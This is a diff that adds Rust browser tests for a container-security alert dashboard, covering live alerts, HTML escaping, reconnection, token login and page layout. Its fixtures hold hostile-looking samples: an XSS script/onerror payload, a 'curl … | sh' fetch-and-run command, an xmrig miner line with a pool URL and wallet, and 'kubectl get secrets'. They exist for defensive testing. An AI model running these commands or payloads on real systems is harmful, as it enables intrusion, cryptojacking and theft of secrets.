@@ -1,0 +1,291 @@
+//! The page in a real browser.
+
+use crate::browser::Browser;
+use crate::publisher::Publisher;
+use crate::records::{alert, container, container_id, process, status};
+use crate::running::Backend;
+use event_model::{
+    BlindRule, Component, Container, Lane, Loss, LossReason, Priority, ProbeCoverage, ProbeState,
+    Record, SourceId, Timestamp,
+};
+
+const SKIPPED: &str =
+    "note: backend: the page was not tried in a browser: chromium-driver is not installed";
+
+fn url(backend: &Backend, path: &str) -> String {
+    format!("http://127.0.0.1:{}{path}", backend.api_port)
+}
+
+/// Records of one lane of a source, sent and acknowledged one after the other.
+struct Sender {
+    publisher: Publisher,
+    source: SourceId,
+    sent: [u64; 4],
+}
+
+impl Sender {
+    async fn connect(backend: &Backend, node: &str) -> Self {
+        let publisher = Publisher::connect(backend, node).await;
+        Self { publisher, source: SourceId::generate(), sent: [0; 4] }
+    }
+
+    async fn send(&mut self, record: Record) {
+        let lane = record.lane();
+        self.sent[lane.index()] += 1;
+        let sequence = self.sent[lane.index()];
+        self.publisher.send(self.source, sequence, &[record]).await;
+        self.publisher.acknowledged(lane, sequence).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn alerts_arrive_on_the_open_page_and_what_attackers_write_stays_text() {
+    let backend = Backend::start().await;
+    let Some(browser) = Browser::start(&backend).await else { return println!("{SKIPPED}") };
+    let mut sender = Sender::connect(&backend, "node-1").await;
+    let payload =
+        "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">";
+    let evil = |priority| {
+        let mut place = container('a');
+        place.name = Some(payload.into());
+        let mut made = alert(payload, priority, &["/bin/sh", "-c", payload], Some(place));
+        made.tags = vec![payload.into()];
+        made.matched_fields[0].value = payload.into();
+        Record::Alert(Box::new(made))
+    };
+    sender.send(evil(Priority::Critical)).await;
+    browser.open(&url(&backend, "/")).await;
+    browser.wait_for("document.getElementById('connection').dataset.state === 'live'").await;
+    sender.send(evil(Priority::Warning)).await;
+    sender.send(status(sender.source, Component::CollectorDs, &[payload])).await;
+    browser.wait_for("document.querySelectorAll('#alert-list .alert').length === 2").await;
+    browser.wait_for("document.querySelectorAll('#sensor-list .reasons li').length === 1").await;
+    for text in [
+        "#alert-list .rule",
+        "#alert-list .command",
+        "#alert-list .tags li",
+        "#alert-list .tree li:last-child code",
+        "#alert-list dd",
+        "#sensor-list .reasons li",
+    ] {
+        let shown = browser.value(&format!("document.querySelector({text:?}).textContent")).await;
+        assert!(shown.as_str().unwrap().contains("<script>"), "{text}: {shown}");
+    }
+    assert_eq!(
+        browser.value("document.title").await,
+        "Alerts · Defender",
+        "no script of the attacker's ran"
+    );
+    assert_eq!(
+        browser
+            .value("document.querySelectorAll('#alerts img, #alerts script, #sensors img').length")
+            .await,
+        0
+    );
+    let two = "[...document.querySelectorAll('#alert-list .alert')].map((alert) => alert.innerHTML.replace(/<time.*?time>|\\s+/gs, '').replace(/[0-9a-f-]{36}|detectedafter[^<]*|(critical|warning)/g, ''))";
+    let same = browser.value(&format!("new Set({two}).size === 1")).await;
+    assert_eq!(
+        same,
+        true,
+        "the script renders what the server renders: {:#}",
+        browser.value(two).await
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn late_metadata_and_a_lost_connection_show_on_the_page() {
+    let mut backend = Backend::start().await;
+    let Some(browser) = Browser::start(&backend).await else { return println!("{SKIPPED}") };
+    let mut sender = Sender::connect(&backend, "node-1").await;
+    browser.open(&url(&backend, "/")).await;
+    browser.wait_for("document.getElementById('connection').dataset.state === 'live'").await;
+    assert_eq!(browser.value("document.getElementById('no-alerts').hidden").await, false);
+    let bare = Container { id: container_id('e'), ..Container::default() };
+    let made = alert("Shell in a container", Priority::Warning, &["/bin/sh"], Some(bare));
+    sender.send(Record::Alert(Box::new(made))).await;
+    browser.wait_for("document.querySelector('#alert-list .place')?.textContent === 'container eeeeeeeeeeee'").await;
+    sender.send(Record::Container(Box::new(container('e')))).await;
+    browser
+        .wait_for("document.querySelector('#alert-list .place').textContent === 'shop/web-e › app'")
+        .await;
+    backend.kill();
+    browser.wait_for("!document.getElementById('banner').hidden").await;
+    browser.look("light", 1280, 800).await;
+    browser.picture("stream-down").await;
+    backend.run();
+    backend.wait_ready().await;
+    browser.wait_for("document.getElementById('connection').dataset.state === 'live'").await;
+    assert_eq!(browser.value("document.getElementById('banner').hidden").await, true);
+    let mut sender = Sender::connect(&backend, "node-1").await;
+    let made = alert("After the restart", Priority::Notice, &["/bin/sh"], None);
+    sender.send(Record::Alert(Box::new(made))).await;
+    browser
+        .wait_for("document.querySelector('#alert-list .rule').textContent === 'After the restart'")
+        .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_token_opens_the_page() {
+    let token = "c2VjcmV0LXRva2VuLW9mLXRlc3Rz";
+    let backend = Backend::start_with(|config, folder| {
+        std::fs::write(folder.join("token"), token).unwrap();
+        config["api"]["token_file"] = folder.join("token").to_str().unwrap().into();
+    })
+    .await;
+    let Some(browser) = Browser::start(&backend).await else { return println!("{SKIPPED}") };
+    browser.look("light", 900, 600).await;
+    let log_in = |token: &str| {
+        let field = "document.getElementById('token')";
+        format!("({field}.value = {token:?}, {field}.form.submit(), true)")
+    };
+    browser.open(&url(&backend, "/")).await;
+    browser.wait_for("location.pathname === '/login'").await;
+    browser.value(&log_in("wrong")).await;
+    browser.wait_for("document.querySelector('.login-error') !== null").await;
+    browser.picture("login").await;
+    browser.value(&log_in(token)).await;
+    browser.wait_for("document.getElementById('connection')?.dataset.state === 'live'").await;
+    assert_eq!(browser.value("document.cookie").await, "", "scripts cannot read the token");
+    browser.value("(document.querySelector('.bar form').submit(), true)").await;
+    browser.wait_for("location.pathname === '/login'").await;
+}
+
+/// A cluster on a bad night, for pictures.
+async fn bad_night(backend: &Backend) -> Vec<Sender> {
+    let mut first = Sender::connect(backend, "ip-10-0-3-17").await;
+    let mut second = Sender::connect(backend, "ip-10-0-3-18").await;
+    for (age, rule, priority, arguments, place) in [
+        (
+            4000,
+            "Package manager in a container",
+            Priority::Error,
+            &["/usr/bin/apt-get", "install", "-y", "nmap"][..],
+            Some(container('c')),
+        ),
+        (
+            900,
+            "Kubernetes client tool in a container",
+            Priority::Notice,
+            &["/usr/local/bin/kubectl", "get", "secrets", "--all-namespaces"],
+            Some(container('b')),
+        ),
+        (
+            610,
+            "Executable not of the image (drift)",
+            Priority::Error,
+            &["/tmp/.x/kworkerds"],
+            Some(container('b')),
+        ),
+        (60, "Shell in a container", Priority::Warning, &["/bin/sh", "-i"], Some(container('a'))),
+        (
+            42,
+            "Fileless execution (memfd)",
+            Priority::Critical,
+            &["memfd:kdevtmpfsi", "--daemon"],
+            Some(container('a')),
+        ),
+        (
+            7,
+            "Miner by its arguments",
+            Priority::Critical,
+            &[
+                "/tmp/xmrig",
+                "-o",
+                "stratum+tcp://pool.example.net:4444",
+                "-u",
+                "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
+                "-p",
+                "x",
+                "--donate-level=1",
+                "--cpu-max-threads-hint=75",
+            ],
+            Some(container('a')),
+        ),
+    ] {
+        let mut made = alert(rule, priority, arguments, place);
+        made.time = Timestamp(made.time.0 - age * 1_000_000_000);
+        made.detected_at = Timestamp(made.time.0 + 2_300_000);
+        made.tags = vec!["container".into(), "mitre_execution".into(), "T1496".into()];
+        made.process_chain[0].executable.upper_layer = arguments[0].starts_with("/tmp");
+        made.process_chain[0].executable.memfd = arguments[0].starts_with("memfd");
+        made.process_chain.insert(
+            1,
+            process(250, Some(200), &["/bin/sh", "-c", "curl -s http://198.51.100.7/i.sh | sh"]),
+        );
+        made.message = format!(
+            "{rule} (command={} container={})",
+            arguments.join(" "),
+            made.container.as_ref().unwrap().name.as_ref().unwrap()
+        );
+        first.send(Record::Alert(Box::new(made))).await;
+    }
+    let Record::SensorStatus(mut healthy) = status(first.source, Component::CollectorDs, &[])
+    else {
+        unreachable!()
+    };
+    let probe = |probe: &str, hook: &str| ProbeCoverage {
+        probe: probe.into(),
+        hook: hook.into(),
+        state: ProbeState::Active,
+        reason: None,
+    };
+    healthy.probes = vec![
+        probe("exec", "tp_btf/sched_process_exec"),
+        probe("fork", "tp_btf/sched_process_fork"),
+        probe("exit", "tp_btf/sched_process_exit"),
+        probe("cgroup", "tp_btf/cgroup_mkdir"),
+    ];
+    first.send(Record::SensorStatus(healthy.clone())).await;
+    let mut failing = healthy;
+    failing.description.id = second.source;
+    failing.problems = vec![
+        "/run/containerd/containerd.sock: permission denied; container names are missing".into(),
+    ];
+    failing.probes[3].state = ProbeState::Unsupported;
+    failing.probes[3].reason = Some("this kernel has no such tracepoint".into());
+    failing.blind_rules = vec![BlindRule {
+        rule: "Shell in a container".into(),
+        reason: "needs container metadata".into(),
+    }];
+    second.send(Record::SensorStatus(failing)).await;
+    let now = Timestamp::now();
+    let loss = Loss {
+        lane: Lane::Telemetry,
+        kind: "exec".into(),
+        reason: LossReason::RingFull,
+        count: 1243,
+        since: now,
+        until: now,
+    };
+    second.send(Record::Loss(loss)).await;
+    vec![first, second]
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_fits_every_window() {
+    let backend = Backend::start().await;
+    let Some(browser) = Browser::start(&backend).await else { return println!("{SKIPPED}") };
+    browser.look("light", 1280, 800).await;
+    browser.open(&url(&backend, "/")).await;
+    browser.picture("empty").await;
+    let _publishers = bad_night(&backend).await;
+    for (scheme, width, height) in
+        [("light", 1440, 1000), ("dark", 1440, 1000), ("dark", 390, 844), ("light", 820, 1100)]
+    {
+        browser.look(scheme, width, height).await;
+        browser.open(&url(&backend, "/")).await;
+        browser.wait_for("document.querySelectorAll('#alert-list .alert').length === 6").await;
+        browser.wait_for("document.getElementById('connection').dataset.state === 'live'").await;
+        browser.picture(&format!("{scheme}-{width}")).await;
+        browser.value("document.querySelectorAll('#alert-list .alert:first-child, .sensor:first-child').forEach((card) => { card.open = true })").await;
+        browser.picture(&format!("{scheme}-{width}-open")).await;
+        let wide = browser
+            .value("document.documentElement.scrollWidth > document.documentElement.clientWidth")
+            .await;
+        assert_eq!(wide, false, "the page is wider than a window of {width} pixels");
+    }
+    browser.look("light", 1440, 1000).await;
+    browser.open(&url(&backend, "/?minimum_priority=critical&namespace=shop")).await;
+    browser.picture("filtered").await;
+    assert_eq!(browser.value("document.querySelectorAll('#alert-list .alert').length").await, 2);
+}
